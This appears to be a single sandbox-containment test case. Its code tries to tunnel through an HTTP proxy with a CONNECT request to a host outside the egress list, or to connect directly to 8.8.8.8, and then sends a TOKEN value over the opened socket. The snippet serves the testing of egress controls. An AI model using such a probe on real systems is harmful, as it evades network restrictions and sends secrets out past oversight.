# title: asks the proxy for a tunnel to a host that is not in the list
# harm: reaches
# egress: public.example:443
# B: no network at all
# C: the proxy's egress list
proxy = 'HTTP_PROXY' in env
s = socket.create_connection(('192.0.2.1', 3128) if proxy else ('8.8.8.8', 443), 2)
if proxy: s.send(b'CONNECT 8.8.8.8:443 HTTP/1.1\r\n\r\n'); print(s.recv(200))
s.send(TOKEN.encode()); time.sleep(0.3)
